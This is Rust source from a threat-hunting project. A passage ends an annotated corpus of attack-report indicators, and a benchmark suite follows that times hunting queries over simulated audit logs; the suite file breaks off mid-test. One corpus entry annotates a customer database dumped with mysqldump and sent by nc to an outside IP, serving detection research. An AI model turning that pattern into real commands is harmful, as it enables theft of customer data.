                ioc!("/usr/bin/mysqldump", FilePath),
                ioc!("/var/lib/mysql/customers.ibd", FilePath),
                ioc!("/tmp/cust.sql", FilePath),
                ioc!("/usr/bin/nc", FilePath),
                ioc!("89.44.200.13", Ip),
            ],
            gold_relations: &[
                rel!("/usr/bin/mysqldump", "read", "/var/lib/mysql/customers.ibd"),
                rel!("/usr/bin/nc", "send", "/tmp/cust.sql"),
                rel!("/usr/bin/nc", "send", "89.44.200.13"),
            ],
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_nlp::ioc::normalize_defang;

    #[test]
    fn corpus_has_four_families() {
        let c = corpus();
        assert_eq!(c.len(), 20);
        for family in ["demo", "apt", "malware", "advisory"] {
            assert_eq!(
                c.iter().filter(|r| r.family == family).count(),
                5,
                "family {family}"
            );
        }
    }

    #[test]
    fn gold_iocs_literally_appear_in_normalized_text() {
        for report in corpus() {
            let norm = normalize_defang(report.text);
            for g in report.gold_iocs {
                assert!(
                    norm.contains(g.text),
                    "report {}: gold IOC `{}` not in text",
                    report.id,
                    g.text
                );
            }
        }
    }

    #[test]
    fn gold_relation_endpoints_are_gold_iocs() {
        for report in corpus() {
            let texts: Vec<&str> = report.gold_iocs.iter().map(|g| g.text).collect();
            for r in report.gold_relations {
                assert!(
                    texts.contains(&r.subject),
                    "report {}: relation subject `{}` not annotated",
                    report.id,
                    r.subject
                );
                assert!(
                    texts.contains(&r.object),
                    "report {}: relation object `{}` not annotated",
                    report.id,
                    r.object
                );
            }
        }
    }

    #[test]
    fn relation_verbs_are_lexicon_lemmas() {
        for report in corpus() {
            for r in report.gold_relations {
                assert!(
                    threatraptor_nlp::verbs::is_relation_verb(r.verb),
                    "report {}: `{}` is not a relation-verb lemma",
                    report.id,
                    r.verb
                );
            }
        }
    }

    #[test]
    fn ids_are_unique() {
        let c = corpus();
        let mut ids: Vec<&str> = c.iter().map(|r| r.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), c.len());
    }
}
