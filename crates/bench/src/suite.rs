//! The recorded bench trajectory: a declarative suite of engine ×
//! workload cases whose measurements come out of the telemetry layer.
//!
//! Earlier experiment binaries (`exp_e1`..`exp_e11`) each hand-roll
//! their timing: `Instant::now()` pairs, ad-hoc percentile helpers,
//! bespoke table printing. This module replaces that for trajectory
//! tracking: every case records its per-hunt latency into a per-case
//! [`Registry`] histogram and derives **all** reported numbers from the
//! resulting [`MetricsSnapshot`] — the same snapshots
//! [`threatraptor_service::HuntServer::metrics`] serves — so the bench
//! numbers and the production metrics can never drift apart.
//!
//! The suite is the cross product of [`EngineKind`] (single-store,
//! sharded scatter-gather, streaming ingest, full event-driven server)
//! and a small set of [`Workload`]s. Results serialize to a
//! machine-readable JSON document (`schema: threatraptor-bench/v1`)
//! checked into the repo as `BENCH_<pr>.json`; [`diff`] renders the
//! trajectory against a previous record.
//!
//! Caveat: the container this runs in is scheduled on shared cores, so
//! absolute latencies are noisy — the recorded trajectory tracks shape
//! (relative engine cost, percentile spread), not absolute regressions.

use std::sync::Arc;
use std::time::Instant;
use threatraptor::{Engine, EngineError, ExecMode, HuntResult, ShardedEngine};
use threatraptor_audit::parser::ParsedLog;
use threatraptor_audit::sim::scenario::{AttackKind, ScenarioBuilder};
use threatraptor_audit::LogFeed;
use threatraptor_obs::{
    HistogramSummary, JsonValue, MetricsSnapshot, Registry, SampleValue, TraceSink,
};
use threatraptor_service::{
    FollowHunt, HuntServer, IngestConfig, PlanCache, ServerConfig, ServiceError,
};
use threatraptor_storage::{AuditStore, SealPolicy, ShardedStore, StreamingStore};

/// The current record's schema identifier.
pub const SCHEMA: &str = "threatraptor-bench/v1";
/// The PR this trajectory point belongs to.
pub const PR: u64 = 9;

/// Which execution stack a case drives.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EngineKind {
    /// One [`AuditStore`], the base [`Engine`].
    Single,
    /// A time-window [`ShardedStore`] under the scatter-gather
    /// [`ShardedEngine`].
    Sharded,
    /// A [`StreamingStore`] fed chunk-by-chunk, hunted via snapshots.
    Streaming,
    /// The full event-driven [`HuntServer`]: job queue + standing query.
    Server,
}

impl EngineKind {
    /// Every engine, in suite order.
    pub const ALL: [EngineKind; 4] = [
        EngineKind::Single,
        EngineKind::Sharded,
        EngineKind::Streaming,
        EngineKind::Server,
    ];

    /// Stable label used in metrics and the JSON record.
    pub fn name(&self) -> &'static str {
        match self {
            EngineKind::Single => "single",
            EngineKind::Sharded => "sharded",
            EngineKind::Streaming => "streaming",
            EngineKind::Server => "server",
        }
    }
}

/// One declarative workload: a simulated scenario plus the hunts to run
/// over it.
#[derive(Debug, Clone)]
pub struct Workload {
    /// Stable name used in metrics and the JSON record.
    pub name: &'static str,
    /// Simulator seed (the scenario is fully deterministic given it).
    pub seed: u64,
    /// Approximate raw event count to generate.
    pub target_events: usize,
    /// TBQL queries each engine executes.
    pub queries: &'static [&'static str],
    /// How many times the query list is repeated (warm-cache behavior is
    /// part of what the trajectory tracks).
    pub repeat: usize,
}

const HUNT_QUERIES: &[&str] = &[
    threatraptor_tbql::parser::FIG2_TBQL,
    "proc p read file f return distinct p, f",
    "proc p[\"%/bin/tar%\"] read file f return p, f",
    // `before` + e2's window give the DBM closure a tighter upper bound
    // for e1 than its (absent) window, so this hunt exercises the
    // feasible-range scan clamp — the suite's "pruned" column.
    "proc p read file f as e1 \
     proc p write file g as e2 window [0, 200000000] \
     with e1 before e2 return p, f, g",
];

/// The infeasible corpus: queries the static analyzer must reject at
/// compile time, before any row is scanned. Every engine case drives
/// these and records the refusals — the suite's lint/feasibility
/// column.
pub const INFEASIBLE_QUERIES: &[&str] = &[
    // Cyclic `before` ordering (E001).
    "proc p read file f as e1 proc p write file g as e2 \
     with e1 before e2, e2 before e1 return p",
    // Empty window (E001).
    "proc p read file f as e1 window [900, 100] return p, f",
    // Window + ordering conflict (E001): e2 must both end inside
    // [0, 100] and start after an event that ends at or after 200.
    "proc p read file f as e1 window [200, 300] \
     proc p write file g as e2 window [0, 100] \
     with e1 before e2 return p, f, g",
    // Contradictory filters on one variable (E002).
    "proc p[\"/bin/tar\"] read file f as e1 \
     proc p[\"/bin/gzip\"] write file g as e2 return p, f, g",
];

/// The declarative suite definition. `--smoke` shrinks scenario sizes
/// and repeats, not the case list: CI exercises every engine × workload
/// cell.
pub fn workloads(smoke: bool) -> Vec<Workload> {
    let scale = if smoke { 1 } else { 6 };
    vec![
        Workload {
            name: "leakage-small",
            seed: 42,
            target_events: 4_000 * scale,
            queries: HUNT_QUERIES,
            repeat: if smoke { 2 } else { 4 },
        },
        Workload {
            name: "all-attacks",
            seed: 7,
            target_events: 8_000 * scale,
            queries: HUNT_QUERIES,
            repeat: if smoke { 1 } else { 3 },
        },
    ]
}

/// One engine × workload measurement, extracted from the case's
/// [`MetricsSnapshot`].
#[derive(Debug, Clone)]
pub struct CaseResult {
    /// [`EngineKind::name`].
    pub engine: &'static str,
    /// [`Workload::name`].
    pub workload: &'static str,
    /// Raw events the scenario generated.
    pub events: usize,
    /// Hunts executed (query list × repeats).
    pub hunts: u64,
    /// Total matches across all hunts.
    pub matches: u64,
    /// Per-hunt latency (nanoseconds), from the case registry's
    /// `bench_hunt_ns` histogram.
    pub latency: HistogramSummary,
    /// Infeasible-corpus queries the static analyzer refused at compile
    /// time (from `bench_rejected_total`; every engine must refuse the
    /// whole corpus, so this equals [`INFEASIBLE_QUERIES`]'s length).
    pub rejected: u64,
    /// Rows excluded by DBM feasible-range clamping across all hunts
    /// (summed over `engine_rows_pruned_total{pattern}`; zero for
    /// engines that don't wire a registry into the scan path).
    pub rows_pruned: u64,
    /// Selected extra counters from the case snapshot (engine-specific:
    /// cache hits, deliveries, seals, ...), name → value.
    pub extra: Vec<(String, f64)>,
    /// Top-span attribution: the stage-latency series with the largest
    /// total time (`<family>/<stage>` → summed nanoseconds), worst
    /// first — where this case actually spent its hunts.
    pub profile: Vec<(String, u64)>,
}

/// How many top spans a case profile retains.
const PROFILE_TOP: usize = 5;

/// Extracts the top-span attribution from a case snapshot: every
/// `hunt_stage_ns` / `serve_stage_ns` series ranked by summed time.
fn profile_summary(snapshot: &MetricsSnapshot) -> Vec<(String, u64)> {
    let mut spans: Vec<(String, u64)> = snapshot
        .samples
        .iter()
        .filter(|s| s.name == "hunt_stage_ns" || s.name == "serve_stage_ns")
        .filter_map(|s| match &s.value {
            SampleValue::Histogram(h) => {
                let stage = s
                    .labels
                    .iter()
                    .find(|(k, _)| k == "stage")
                    .map(|(_, v)| v.as_str())
                    .unwrap_or("?");
                Some((format!("{}/{stage}", s.name), h.sum))
            }
            _ => None,
        })
        .collect();
    spans.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
    spans.truncate(PROFILE_TOP);
    spans
}

fn scenario(w: &Workload) -> threatraptor_audit::sim::scenario::Scenario {
    ScenarioBuilder::new()
        .seed(w.seed)
        .attacks(&AttackKind::ALL)
        .target_events(w.target_events)
        .build()
}

fn case_labels(engine: EngineKind, w: &Workload) -> [(&'static str, &str); 2] {
    [("engine", engine.name()), ("workload", w.name)]
}

/// Extracts the [`CaseResult`] from a finished case's snapshot — the
/// single funnel every engine's numbers pass through.
fn extract(
    engine: EngineKind,
    w: &Workload,
    events: usize,
    snapshot: &MetricsSnapshot,
    latency_metric: &str,
    latency_labels: &[(&str, &str)],
    extra_names: &[&str],
) -> CaseResult {
    let labels = case_labels(engine, w);
    let latency = snapshot
        .histogram(latency_metric, latency_labels)
        .cloned()
        .unwrap_or_default();
    let hunts = snapshot
        .get("bench_hunts_total", &labels)
        .and_then(|s| match s.value {
            threatraptor_obs::SampleValue::Counter(v) => Some(v),
            _ => None,
        })
        .unwrap_or(latency.count);
    let matches = snapshot
        .get("bench_matches_total", &labels)
        .and_then(|s| match s.value {
            threatraptor_obs::SampleValue::Counter(v) => Some(v),
            _ => None,
        })
        .unwrap_or(0);
    let extra = extra_names
        .iter()
        .filter_map(|name| {
            snapshot.get(name, &[]).map(|s| {
                let v = match &s.value {
                    threatraptor_obs::SampleValue::Counter(v) => *v as f64,
                    threatraptor_obs::SampleValue::Gauge(v) => *v as f64,
                    threatraptor_obs::SampleValue::Histogram(h) => h.count as f64,
                };
                (name.to_string(), v)
            })
        })
        .collect();
    let rejected = snapshot
        .get("bench_rejected_total", &labels)
        .and_then(|s| match s.value {
            threatraptor_obs::SampleValue::Counter(v) => Some(v),
            _ => None,
        })
        .unwrap_or(0);
    let rows_pruned = snapshot
        .samples
        .iter()
        .filter(|s| s.name == "engine_rows_pruned_total")
        .map(|s| match s.value {
            SampleValue::Counter(v) => v,
            _ => 0,
        })
        .sum();
    CaseResult {
        engine: engine.name(),
        workload: w.name,
        events,
        hunts,
        matches,
        latency,
        rejected,
        rows_pruned,
        extra,
        profile: profile_summary(snapshot),
    }
}

/// Runs the hunts of `w` against `hunt`, recording each execution into
/// the case registry (`bench_hunt_ns` / `bench_hunts_total` /
/// `bench_matches_total`, labeled by engine and workload) plus a
/// per-stage breakdown into `hunt_stage_ns` — the source of the case's
/// top-span profile.
fn drive_hunts<F>(registry: &Arc<Registry>, engine: EngineKind, w: &Workload, mut hunt: F)
where
    F: FnMut(&str) -> HuntResult,
{
    let labels = case_labels(engine, w);
    let latency = registry.histogram_labeled("bench_hunt_ns", &labels);
    let hunts = registry.counter_labeled("bench_hunts_total", &labels);
    let matches = registry.counter_labeled("bench_matches_total", &labels);
    let stages = TraceSink::new(Arc::clone(registry), "hunt_stage_ns");
    for _ in 0..w.repeat {
        for q in w.queries {
            let t = Instant::now();
            let result = hunt(q);
            latency.record_duration(t.elapsed());
            hunts.inc();
            matches.add(result.matches.len() as u64);
            result.stats.record_stages(&stages);
        }
    }
}

/// Drives the infeasible corpus at an engine, asserting every query is
/// refused at compile time and recording the refusals into
/// `bench_rejected_total` — the feasibility guardrail every case runs.
fn drive_rejections<F>(registry: &Arc<Registry>, engine: EngineKind, w: &Workload, mut rejected: F)
where
    F: FnMut(&str) -> bool,
{
    let counter = registry.counter_labeled("bench_rejected_total", &case_labels(engine, w));
    for q in INFEASIBLE_QUERIES {
        assert!(rejected(q), "static analysis must reject: {q}");
        counter.inc();
    }
}

fn run_single(w: &Workload, log: &ParsedLog) -> CaseResult {
    let registry = Arc::new(Registry::new());
    let store = AuditStore::ingest(log, true);
    let engine = Engine::new(&store);
    drive_hunts(&registry, EngineKind::Single, w, |q| {
        engine.hunt(q).expect("valid TBQL")
    });
    drive_rejections(&registry, EngineKind::Single, w, |q| {
        matches!(engine.hunt(q), Err(EngineError::Infeasible(_)))
    });
    let labels = case_labels(EngineKind::Single, w);
    extract(
        EngineKind::Single,
        w,
        log.events.len(),
        &registry.snapshot(),
        "bench_hunt_ns",
        &labels,
        &[],
    )
}

fn run_sharded(w: &Workload, log: &ParsedLog) -> CaseResult {
    let registry = Arc::new(Registry::new());
    let store = ShardedStore::ingest(log, true, 4);
    let engine = ShardedEngine::new(&store).with_registry(&registry);
    drive_hunts(&registry, EngineKind::Sharded, w, |q| {
        engine.hunt(q).expect("valid TBQL")
    });
    drive_rejections(&registry, EngineKind::Sharded, w, |q| {
        matches!(engine.hunt(q), Err(EngineError::Infeasible(_)))
    });
    let labels = case_labels(EngineKind::Sharded, w);
    extract(
        EngineKind::Sharded,
        w,
        log.events.len(),
        &registry.snapshot(),
        "bench_hunt_ns",
        &labels,
        &[],
    )
}

fn run_streaming(w: &Workload, raw: &str, log: &ParsedLog) -> CaseResult {
    let registry = Arc::new(Registry::new());
    let mut store = StreamingStore::new(true, SealPolicy::events(2_000));
    store.attach_metrics(&registry);
    for chunk in LogFeed::by_events(raw, 512) {
        store.append(&chunk.expect("well-formed log"));
    }
    // Hunts run against snapshots, exactly like the ingest service does.
    let snapshot = store.snapshot();
    let engine = ShardedEngine::new(&snapshot);
    drive_hunts(&registry, EngineKind::Streaming, w, |q| {
        engine.hunt(q).expect("valid TBQL")
    });
    drive_rejections(&registry, EngineKind::Streaming, w, |q| {
        matches!(engine.hunt(q), Err(EngineError::Infeasible(_)))
    });
    let labels = case_labels(EngineKind::Streaming, w);
    extract(
        EngineKind::Streaming,
        w,
        log.events.len(),
        &registry.snapshot(),
        "bench_hunt_ns",
        &labels,
        &[
            "storage_appends_total",
            "storage_seals_total",
            "storage_stored_events",
        ],
    )
}

fn run_server(w: &Workload, raw: &str, log: &ParsedLog) -> CaseResult {
    let server = HuntServer::new(ServerConfig::with_ingest(IngestConfig::with_policy(
        SealPolicy::events(2_000),
    )));
    // A standing query rides along so the snapshot carries follow-path
    // telemetry too.
    let (_alerts, _) = server
        .follow(threatraptor_tbql::parser::FIG2_TBQL)
        .expect("valid TBQL");
    for chunk in LogFeed::by_events(raw, 512) {
        server.append(&chunk.expect("well-formed log"));
    }
    let mut matches = 0u64;
    for _ in 0..w.repeat {
        for q in w.queries {
            // submit → wait: the job path stamps queue-wait, execution,
            // and end-to-end latency into the server registry itself.
            let result = server.hunt(q).expect("valid TBQL");
            matches += result.matches.len() as u64;
        }
    }
    assert!(server.wait_caught_up(std::time::Duration::from_secs(120)));
    drive_rejections(server.registry(), EngineKind::Server, w, |q| {
        matches!(server.hunt(q), Err(ServiceError::Infeasible(_)))
    });
    // The server's own end-to-end job latency IS the case latency: no
    // external stopwatch.
    let labels = case_labels(EngineKind::Server, w);
    server
        .registry()
        .counter_labeled("bench_matches_total", &labels)
        .add(matches);
    let snapshot = server.metrics();
    server.shutdown();
    extract(
        EngineKind::Server,
        w,
        log.events.len(),
        &snapshot,
        "job_latency_ns",
        &[("status", "ok")],
        &[
            "plan_cache_hits_total",
            "plan_cache_misses_total",
            "jobs_completed_total",
            "follow_deliveries_total",
            "follow_epochs_total",
            "storage_sealed_shards",
        ],
    )
}

/// The standing-query corpus: event-only hunts the incremental follow
/// path can carry. (Path queries fall back to full re-execution; that
/// behavior is pinned by `tests/follow_parity.rs`, not benchmarked.)
const STANDING_QUERIES: &[&str] = &[
    threatraptor_tbql::parser::FIG2_TBQL,
    "proc p read file f return distinct p, f",
    "proc p[\"%/bin/tar%\"] read file f return p, f",
];

/// Events appended between standing-query poll rounds. Small relative
/// to the workload's total so the sealed history grows well over 10×
/// across the run — the regime where flat-vs-linear separates.
const STANDING_CHUNK: usize = 500;

/// The `standing-queries` workload. Both follow cases share it so the
/// delta and oracle numbers are directly comparable.
fn standing_workload(smoke: bool) -> Workload {
    Workload {
        name: "standing-queries",
        seed: 11,
        target_events: if smoke { 6_000 } else { 30_000 },
        queries: STANDING_QUERIES,
        repeat: 1,
    }
}

/// Drives N concurrent standing queries under sustained chunked ingest,
/// polling every follow hunt after each appended chunk. `force_full`
/// selects the full-re-execution oracle (case `follow-full`) over the
/// incremental path (case `follow-delta`); the pair is the suite's
/// flat-vs-linear evidence. Per-poll latency comes from `bench_hunt_ns`
/// and per-poll scanned rows from diffing `follow_rows_scanned_total`
/// between rounds — both out of the case [`MetricsSnapshot`], like every
/// other case. The early/late mean scanned-rows-per-round land in
/// `extra` (`poll_rows_early` / `poll_rows_late`): flat for the delta
/// case, growing with the store for the oracle.
fn run_standing(w: &Workload, force_full: bool) -> CaseResult {
    let engine = if force_full {
        "follow-full"
    } else {
        "follow-delta"
    };
    let labels = [("engine", engine), ("workload", w.name)];
    let sc = scenario(w);
    let registry = Arc::new(Registry::new());
    let mut store = StreamingStore::new(true, SealPolicy::events(1_000));
    store.attach_metrics(&registry);
    store.append_batch(&sc.log.entities, &[]);

    let cache = PlanCache::new();
    let mut hunts: Vec<FollowHunt> = w
        .queries
        .iter()
        .map(|q| {
            let (plan, _) = cache.plan(q).expect("valid TBQL");
            let mut hunt = FollowHunt::new(plan, ExecMode::Scheduled, 1);
            if force_full {
                hunt = hunt.with_full_reexecution();
            }
            hunt.attach_metrics(&registry);
            hunt
        })
        .collect();

    let latency = registry.histogram_labeled("bench_hunt_ns", &labels);
    let hunts_total = registry.counter_labeled("bench_hunts_total", &labels);
    let matches_total = registry.counter_labeled("bench_matches_total", &labels);
    let rows_scanned = registry.counter("follow_rows_scanned_total");
    let mut round_rows = Vec::new();
    for batch in sc.log.events.chunks(STANDING_CHUNK) {
        store.append_batch(&[], batch);
        let snapshot = store.snapshot();
        let before = rows_scanned.get();
        for hunt in &mut hunts {
            let t = Instant::now();
            let delta = hunt.poll(&snapshot).expect("valid standing poll");
            latency.record_duration(t.elapsed());
            hunts_total.inc();
            matches_total.add(delta.new_matches as u64);
        }
        round_rows.push((rows_scanned.get() - before) as f64);
    }
    // Each hunt's cumulative stage breakdown feeds the case profile.
    let stages = TraceSink::new(Arc::clone(&registry), "hunt_stage_ns");
    for hunt in &hunts {
        if let Some(result) = hunt.result() {
            result.stats.record_stages(&stages);
        }
    }
    // The feasibility guardrail: infeasible queries must be refused at
    // plan time, before a standing query is ever registered.
    let rejected = registry.counter_labeled("bench_rejected_total", &labels);
    for q in INFEASIBLE_QUERIES {
        assert!(
            matches!(cache.plan(q), Err(EngineError::Infeasible(_))),
            "static analysis must reject: {q}"
        );
        rejected.inc();
    }

    // Flat-vs-linear: mean scanned rows per poll round over the first
    // and last quarter of the stream.
    let quarter = (round_rows.len() / 4).max(1);
    let mean = |s: &[f64]| s.iter().sum::<f64>() / s.len().max(1) as f64;
    let early = mean(&round_rows[..quarter]);
    let late = mean(&round_rows[round_rows.len() - quarter..]);

    let snapshot = registry.snapshot();
    let mut extra: Vec<(String, f64)> = vec![
        ("poll_rows_early".into(), early),
        ("poll_rows_late".into(), late),
        (
            "follow_partials_retained".into(),
            snapshot.gauge("follow_partials_retained").unwrap_or(0) as f64,
        ),
    ];
    for name in [
        "follow_rows_scanned_total",
        "follow_matches_total",
        "follow_delta_polls_total",
        "follow_delta_rows_total",
        "follow_full_fallback_total",
        "follow_invalidated_total",
        "follow_partials_aged_total",
        "follow_dedup_aged_total",
        "storage_seals_total",
    ] {
        if let Some(v) = snapshot.counter(name) {
            extra.push((name.into(), v as f64));
        }
    }
    let rows_pruned = snapshot
        .samples
        .iter()
        .filter(|s| s.name == "engine_rows_pruned_total")
        .map(|s| match s.value {
            SampleValue::Counter(v) => v,
            _ => 0,
        })
        .sum();
    CaseResult {
        engine,
        workload: w.name,
        events: sc.log.events.len(),
        hunts: hunts_total.get(),
        matches: matches_total.get(),
        latency: snapshot
            .histogram("bench_hunt_ns", &labels)
            .cloned()
            .unwrap_or_default(),
        rejected: rejected.get(),
        rows_pruned,
        extra,
        profile: profile_summary(&snapshot),
    }
}

/// Runs one engine × workload cell.
pub fn run_case(engine: EngineKind, w: &Workload) -> CaseResult {
    let sc = scenario(w);
    match engine {
        EngineKind::Single => run_single(w, &sc.log),
        EngineKind::Sharded => run_sharded(w, &sc.log),
        EngineKind::Streaming => run_streaming(w, &sc.raw, &sc.log),
        EngineKind::Server => run_server(w, &sc.raw, &sc.log),
    }
}

/// Runs the whole suite, in deterministic order: the engine × workload
/// cross product, then the standing-query pair (incremental path vs.
/// full-re-execution oracle) over the shared `standing-queries`
/// workload.
pub fn run_suite(smoke: bool) -> Vec<CaseResult> {
    let mut out = Vec::new();
    for w in &workloads(smoke) {
        for engine in EngineKind::ALL {
            out.push(run_case(engine, w));
        }
    }
    let standing = standing_workload(smoke);
    out.push(run_standing(&standing, false));
    out.push(run_standing(&standing, true));
    out
}

/// Serializes suite results as the versioned bench record.
pub fn to_json(results: &[CaseResult], smoke: bool) -> JsonValue {
    let cases = results
        .iter()
        .map(|c| {
            JsonValue::Obj(vec![
                ("engine".into(), JsonValue::Str(c.engine.into())),
                ("workload".into(), JsonValue::Str(c.workload.into())),
                ("events".into(), JsonValue::Num(c.events as f64)),
                ("hunts".into(), JsonValue::Num(c.hunts as f64)),
                ("matches".into(), JsonValue::Num(c.matches as f64)),
                ("rejected".into(), JsonValue::Num(c.rejected as f64)),
                ("rows_pruned".into(), JsonValue::Num(c.rows_pruned as f64)),
                (
                    "latency_ns".into(),
                    JsonValue::Obj(vec![
                        ("count".into(), JsonValue::Num(c.latency.count as f64)),
                        ("sum".into(), JsonValue::Num(c.latency.sum as f64)),
                        ("p50".into(), JsonValue::Num(c.latency.p50 as f64)),
                        ("p90".into(), JsonValue::Num(c.latency.p90 as f64)),
                        ("p99".into(), JsonValue::Num(c.latency.p99 as f64)),
                        ("max".into(), JsonValue::Num(c.latency.max as f64)),
                    ]),
                ),
                (
                    "extra".into(),
                    JsonValue::Obj(
                        c.extra
                            .iter()
                            .map(|(k, v)| (k.clone(), JsonValue::Num(*v)))
                            .collect(),
                    ),
                ),
                (
                    "profile".into(),
                    JsonValue::Obj(
                        c.profile
                            .iter()
                            .map(|(k, v)| (k.clone(), JsonValue::Num(*v as f64)))
                            .collect(),
                    ),
                ),
            ])
        })
        .collect();
    JsonValue::Obj(vec![
        ("schema".into(), JsonValue::Str(SCHEMA.into())),
        ("pr".into(), JsonValue::Num(PR as f64)),
        ("smoke".into(), JsonValue::Bool(smoke)),
        ("cases".into(), JsonValue::Arr(cases)),
    ])
}

/// Validates a bench record against the `threatraptor-bench/v1` shape.
/// Returns a list of problems (empty = valid).
pub fn validate(doc: &JsonValue) -> Vec<String> {
    let mut problems = Vec::new();
    match doc.get("schema").and_then(JsonValue::as_str) {
        Some(SCHEMA) => {}
        Some(other) => problems.push(format!("unknown schema {other:?}")),
        None => problems.push("missing \"schema\"".into()),
    }
    if doc.get("pr").and_then(JsonValue::as_f64).is_none() {
        problems.push("missing numeric \"pr\"".into());
    }
    if doc.get("smoke").and_then(JsonValue::as_bool).is_none() {
        problems.push("missing boolean \"smoke\"".into());
    }
    let Some(cases) = doc.get("cases").and_then(JsonValue::as_array) else {
        problems.push("missing \"cases\" array".into());
        return problems;
    };
    if cases.is_empty() {
        problems.push("\"cases\" is empty".into());
    }
    for (i, case) in cases.iter().enumerate() {
        for key in ["engine", "workload"] {
            if case.get(key).and_then(JsonValue::as_str).is_none() {
                problems.push(format!("case {i}: missing string {key:?}"));
            }
        }
        for key in ["events", "hunts", "matches"] {
            if case.get(key).and_then(JsonValue::as_f64).is_none() {
                problems.push(format!("case {i}: missing numeric {key:?}"));
            }
        }
        // Since v8 records, every case carries the static-analysis
        // columns: infeasible queries rejected and rows pruned by the
        // DBM feasible-range clamp.
        for key in ["rejected", "rows_pruned"] {
            if case.get(key).and_then(JsonValue::as_f64).is_none() {
                problems.push(format!("case {i}: missing numeric {key:?}"));
            }
        }
        match case.get("latency_ns") {
            Some(lat) => {
                for key in ["count", "sum", "p50", "p90", "p99", "max"] {
                    if lat.get(key).and_then(JsonValue::as_f64).is_none() {
                        problems.push(format!("case {i}: latency_ns missing {key:?}"));
                    }
                }
                let count = lat.get("count").and_then(JsonValue::as_f64).unwrap_or(0.0);
                if count <= 0.0 {
                    problems.push(format!("case {i}: latency_ns.count must be > 0"));
                }
            }
            None => problems.push(format!("case {i}: missing \"latency_ns\"")),
        }
        // Since v7 records, every case carries its top-span profile:
        // an object of `<family>/<stage>` → summed nanoseconds.
        match case.get("profile") {
            Some(JsonValue::Obj(spans)) => {
                if spans.is_empty() {
                    problems.push(format!("case {i}: \"profile\" has no spans"));
                }
                for (k, v) in spans {
                    if v.as_f64().is_none() {
                        problems.push(format!("case {i}: profile span {k:?} not numeric"));
                    }
                }
            }
            Some(_) => problems.push(format!("case {i}: \"profile\" must be an object")),
            None => problems.push(format!("case {i}: missing \"profile\"")),
        }
    }
    problems
}

/// Human-readable trajectory diff: p50/p99 latency per case, current vs.
/// a previous record (matched on engine + workload; unmatched cases are
/// listed as new/dropped). `previous` may be any prior-PR record.
pub fn diff(current: &JsonValue, previous: &JsonValue) -> String {
    fn index(doc: &JsonValue) -> Vec<(String, &JsonValue)> {
        doc.get("cases")
            .and_then(JsonValue::as_array)
            .map(|cases| {
                cases
                    .iter()
                    .filter_map(|c| {
                        let engine = c.get("engine").and_then(JsonValue::as_str)?;
                        let workload = c.get("workload").and_then(JsonValue::as_str)?;
                        Some((format!("{engine}/{workload}"), c))
                    })
                    .collect()
            })
            .unwrap_or_default()
    }
    fn p(case: &JsonValue, q: &str) -> f64 {
        case.get("latency_ns")
            .and_then(|l| l.get(q))
            .and_then(JsonValue::as_f64)
            .unwrap_or(0.0)
    }
    let cur = index(current);
    let prev = index(previous);
    let prev_pr = previous
        .get("pr")
        .and_then(JsonValue::as_f64)
        .map(|v| format!("PR {v}"))
        .unwrap_or_else(|| "previous".into());
    let mut out = format!("trajectory vs {prev_pr} (latency ns; shape, not absolutes):\n");
    for (key, c) in &cur {
        match prev.iter().find(|(k, _)| k == key).map(|(_, p)| *p) {
            Some(old) => {
                let (c50, o50) = (p(c, "p50"), p(old, "p50"));
                let (c99, o99) = (p(c, "p99"), p(old, "p99"));
                let ratio = |new: f64, old: f64| {
                    if old > 0.0 {
                        format!("{:+.0}%", (new / old - 1.0) * 100.0)
                    } else {
                        "n/a".into()
                    }
                };
                out.push_str(&format!(
                    "  {key}: p50 {c50:.0} ({}) p99 {c99:.0} ({})\n",
                    ratio(c50, o50),
                    ratio(c99, o99)
                ));
            }
            None => out.push_str(&format!("  {key}: new (no previous record)\n")),
        }
    }
    for (key, _) in &prev {
        if !cur.iter().any(|(k, _)| k == key) {
            out.push_str(&format!("  {key}: dropped (present in {prev_pr} only)\n"));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn suite_definition_covers_every_engine() {
        let w = workloads(true);
        assert_eq!(w.len(), 2);
        assert_eq!(EngineKind::ALL.len(), 4);
        let names: Vec<&str> = EngineKind::ALL.iter().map(|e| e.name()).collect();
        assert_eq!(names, ["single", "sharded", "streaming", "server"]);
    }

    #[test]
    fn single_case_measures_through_the_registry() {
        let w = Workload {
            name: "tiny",
            seed: 42,
            target_events: 1_500,
            queries: &["proc p read file f return p"],
            repeat: 2,
        };
        let result = run_case(EngineKind::Single, &w);
        assert_eq!(result.hunts, 2, "repeat × queries");
        assert_eq!(result.latency.count, 2);
        assert!(result.latency.p50 > 0, "hunts take nonzero time");
        assert!(result.latency.p50 <= result.latency.p99);
        assert!(result.events > 0);
        // The feasibility guardrail drove the whole infeasible corpus.
        assert_eq!(result.rejected, INFEASIBLE_QUERIES.len() as u64);
        // Top-span attribution rides every case, worst span first.
        assert!(!result.profile.is_empty(), "case profile populated");
        assert!(result
            .profile
            .iter()
            .all(|(k, _)| k.starts_with("hunt_stage_ns/")));
        assert!(result.profile.windows(2).all(|w| w[0].1 >= w[1].1));
    }

    #[test]
    fn standing_cases_separate_delta_from_full_reexecution() {
        let w = Workload {
            name: "standing-tiny",
            seed: 11,
            target_events: 5_000,
            queries: STANDING_QUERIES,
            repeat: 1,
        };
        let delta = run_standing(&w, false);
        let full = run_standing(&w, true);
        let get = |c: &CaseResult, k: &str| {
            c.extra
                .iter()
                .find(|(name, _)| name == k)
                .map(|(_, v)| *v)
                .expect("extra present")
        };
        // Same workload, same deliveries.
        assert_eq!(delta.hunts, full.hunts);
        assert_eq!(delta.matches, full.matches);
        // Every poll of an event-only standing query runs incrementally;
        // the oracle never does.
        assert_eq!(get(&delta, "follow_delta_polls_total"), delta.hunts as f64);
        assert_eq!(get(&full, "follow_delta_polls_total"), 0.0);
        // Flat vs. linear: by the last quarter of the stream the oracle
        // re-scans the whole store each round while the delta case scans
        // rows proportional to the chunk, not the store.
        let (d_early, d_late) = (
            get(&delta, "poll_rows_early"),
            get(&delta, "poll_rows_late"),
        );
        let (f_early, f_late) = (get(&full, "poll_rows_early"), get(&full, "poll_rows_late"));
        assert!(
            f_late > f_early * 2.0,
            "oracle per-poll rows must grow with the store ({f_early} → {f_late})"
        );
        assert!(
            d_late < f_late / 2.0,
            "delta per-poll rows must stay well under the oracle's \
